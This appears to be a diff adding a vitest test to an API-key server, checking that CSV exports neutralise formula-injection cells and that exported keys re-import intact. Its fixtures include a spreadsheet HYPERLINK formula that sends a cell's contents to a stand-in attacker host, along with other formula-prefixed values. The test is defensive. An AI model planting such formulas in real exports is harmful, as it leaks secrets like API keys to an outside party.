@@ -1,5 +1,7 @@
 /** T9, T12: keys in places where the apipool-server would show them to those who may not read them. */
+import Papa from 'papaparse'
 import { expect, test } from 'vitest'
+import { parseKeys } from '../../src-main/services/key-import.ts'
 import { openRig, secretOf } from '../remote/server/rig.ts'
 
 const key = secretOf(1)
@@ -95,4 +97,23 @@ test('an admin who may not read keys cannot lead one to an address of their own'
   expect((await own('POST', '/pools', openai)).status).toBe(201)
   await rig.admin('POST', '/keys', { identifier: 'other', raw_key: secretOf(2) })
   expect((await rig.admin('POST', '/pools/evil/members', { key_identifiers: ['other'] })).status).toBe(200)
+})
+
+test('no cell of an exported table is a formula, on one line or on several, and all of it comes back', async () => {
+  const rig = await openRig()
+  const formulas = ['=HYPERLINK("https://thief.example/?"&C2)', '=1+1\nx', '+1\r\ny', '-1\n', '@SUM(1)\n', '\t=1', '\r=1']
+  const keys = formulas.map((description, n) => ({
+    identifier: `=k${n}`,
+    raw_key: `-raw-${secretOf(n)}`,
+    description,
+    tags: ['=t'],
+  }))
+  expect((await rig.admin('POST', '/keys/import', { keys })).json.imported).toBe(formulas.length)
+  const { text } = await rig.admin('GET', '/keys/export')
+  const rows = Papa.parse<string[]>(text, { newline: '\r\n', skipEmptyLines: true }).data.slice(1)
+  expect(rows).toHaveLength(formulas.length)
+  for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
+  const { candidates } = parseKeys(text)
+  const secrets = candidates.map(({ secret }) => secret)
+  expect(new Set(secrets)).toEqual(new Set(keys.map(({ raw_key }) => raw_key)))
 })
